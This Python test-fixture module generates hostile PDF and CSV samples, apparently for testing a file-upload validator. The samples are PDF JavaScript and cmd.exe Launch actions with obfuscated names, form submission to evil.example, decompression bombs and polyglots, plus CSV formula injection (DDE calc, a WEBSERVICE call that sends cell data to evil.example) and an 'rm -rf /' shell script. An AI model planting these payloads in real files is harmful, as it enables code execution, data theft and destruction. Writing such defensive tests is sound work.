"""PDFs that act, carry, hide or break off, and tables that are none."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from .honest import docx, jpeg, pdf, png
from .kinds import Hostile, made
from .pictures import PAGE, PHP, SCRIPT, small_zip


def with_objects(*bodies: bytes) -> bytes:
    """The honest PDF with further objects and a table of them, as an editor appends them."""
    whole = pdf()
    previous = whole[whole.rindex(b"startxref") :].split()[1]
    out, rows = whole, b""
    for number, body in enumerate(bodies, start=10):
        rows += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R /Prev %s >>\n" % (10 + len(bodies), previous)
    return out + b"xref\n%s%sstartxref\n%d\n%%%%EOF\n" % (rows, trailer, len(out))


def stream(data: bytes, entries: bytes = b"/Filter /FlateDecode", packed: bool = True) -> bytes:
    body = zlib.compress(data, 9) if packed else data
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(body), body)


def bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    parts = [packer.compress(b" " * 1024 * 1024) for _ in range(megabytes)]
    body = b"".join(parts) + packer.flush()
    return b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(body), body)


_ACTS = {
    "script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "script at opening": b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>",
    "script with a hidden name": b"<< /S /J#61vaScript /JS (x) >>",
    "script with every letter hidden": b"<< /S /" + b"".join(b"#%02x" % c for c in b"JavaScript") + b" >>",
    "named scripts": b"<< /Names << /JavaScript 11 0 R >> >>",
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "launch with a hidden name": b"<< /S /L#61unch /Win << /F (cmd.exe) >> >>",
    "embedded file": b"<< /Type /Filespec /EF << /F 11 0 R >> /Names << /EmbeddedFiles 12 0 R >> >>",
    "embedded stream": b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nMZ!\nendstream",
    "locked": b"<< /Filter /Standard /V 2 /R 3 >> /Encrypt 11 0 R",
    "media": b"<< /Subtype /RichMedia >>",
    "movie": b"<< /Subtype /Movie >>",
    "rendition": b"<< /S /Rendition >>",
    "form that runs code": b"<< /AcroForm << /XFA 11 0 R >> >>",
    "form that sends": b"<< /S /SubmitForm /F (https://evil.example) >>",
    "form that reads": b"<< /S /ImportData /F (x.fdf) >>",
    "opens a file inside": b"<< /S /GoToE /T << /R /C >> >>",
    "opens a file on a share": b"<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>",
}  # fmt: skip


def hostile() -> Iterator[Hostile]:
    for label, body in _ACTS.items():
        yield made("pdf that acts", label, "law.pdf", with_objects(body))
    script = _ACTS["script"]
    for label, body in {
        "script in packed objects": stream(
            b"10 0 " + script, b"/Type /ObjStm /Filter /FlateDecode"
        ),
        "packed objects that say picture": stream(
            b"10 0 " + script, b"/Subtype /Image /Filter /FlateDecode"
        ),
        "packed objects without a type": stream(b"10 0 " + script),
        "launch in packed objects": stream(b"10 0 " + _ACTS["launch"]),
        "hidden name in packed objects": stream(b"10 0 " + _ACTS["script with a hidden name"]),
        "packed twice": stream(
            zlib.compress(script).hex().encode() + b">",
            b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
            packed=False,
        ),
    }.items():
        yield made("pdf that acts", label, "law.pdf", with_objects(body))
    yield from _broken()
    yield Hostile("bomb", "pdf that unpacks to 200 MB", "law.pdf", lambda: with_objects(bomb(200)))
    yield Hostile(
        "bomb", "pdf of three times 90 MB", "law.pdf", lambda: with_objects(*[bomb(90)] * 3)
    )
    yield from _tables()


def _broken() -> Iterator[Hostile]:
    whole = pdf()
    for label, body in {
        "without %%EOF": whole.replace(b"%%EOF\n", b""),
        "half": whole[: len(whole) // 2],
        "head alone": whole[:9],
        "without its table": whole[: whole.index(b"xref")] + b"%%EOF\n",
        "table beyond its end": whole[: whole.rindex(b"startxref")] + b"startxref\n99999\n%%EOF\n",
        "table is no table": whole[: whole.rindex(b"startxref")] + b"startxref\n12\n%%EOF\n",
    }.items():
        yield made("cut off", f"pdf, {label}", "law.pdf", body)
    for label, body in {
        "page behind": whole + PAGE,
        "zip behind": whole + small_zip(),
        "program behind": whole + b"MZ" + b"\x00" * 40,
        "page before": PAGE + whole,
        "zip before": small_zip() + whole,
        "script in its first line": whole.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + SCRIPT + b"\n"),
        "zip that ends in it": whole[:-6]
        + small_zip()[:-22]
        + b"PK\x05\x06"
        + b"\x00" * 18
        + b"%%EOF\n",
        "zip in a stream": with_objects(stream(small_zip(), b"", packed=False)),
    }.items():
        yield made("two in one", f"pdf, {label}", "law.pdf", body)
    for label, body in {"page": PAGE, "png": png(), "jpg": jpeg(), "docx": docx(), "zip": small_zip(),
                        "program": b"MZ\x90" + b"\x00" * 64, "words": b"just words\n"}.items():  # fmt: skip
        yield made("renamed", f"{label} as pdf", "law.pdf", body)


def _tables() -> Iterator[Hostile]:
    row = b"county,figure\nWajir,3\n"
    for label, body in {
        "null": row + b"a\x00b,1\n",
        "null far behind": row * 40_000 + b"\x00",
        "control signs": row + b"\x1b[2J,1\n",
        "Latin-1": row + b"C\xf4te,1\n",
        "Latin-1 far behind": row * 40_000 + b"C\xf4te,1\n",
        "half a letter at the end": row + "é".encode()[:1],
        "half of UTF-16": b"\xff\xfe" + "a,b\n".encode("utf-16-le") + b"\x00",
        "lone surrogate": b"\xff\xfe\x00\xd8,\x00",
        "page": PAGE,
        "page in a cell": row + b"x," + PAGE + b"\n",
        "script in a cell": row + b"x," + SCRIPT + b"\n",
        "script in capitals": row + b"x,<SCRIPT >x</SCRIPT>\n",
        "script far behind": row * 40_000 + SCRIPT,
        "script across two windows": b"a" * (256 * 1024 - 4) + SCRIPT,
        "script in UTF-16": b"\xff\xfe" + ("a,b\n" + SCRIPT.decode()).encode("utf-16-le"),
        "frame": row + b"<iframe src=x>\n",
        "php": row + PHP,
        "xml": b"<?xml version='1.0'?><Workbook/>",
        "DDE": row + b"=cmd|' /C calc'!A0,1\n",
        "DDE with plus": row + b"\"+cmd|' /C calc'!A0\",1\n",
        "DDE with minus": row + b"-MSEXCEL|'\\..\\x'!A0\n",
        "DDE with at": row + b"@SUM(1)*cmd|' /C calc'!A0\n",
        "web service": row + b'=WEBSERVICE("https://evil.example/"&A1)\n',
        "import": row + b'=IMPORTXML("https://evil.example/";"//a")\n',
        "SYLK": b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC("calc")\r\nE\r\n',
        "rtf": b"{\\rtf1\\ansi}",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "mail": b"MIME-Version: 1.0\nContent-Type: text/html\n\n",
        "pdf": pdf(),
        "png": png(),
        "docx": docx(),
        "program": b"MZ\x90\x00\x03" + b"\x00" * 64,
    }.items():
        yield made("table", label, "table.csv", body)
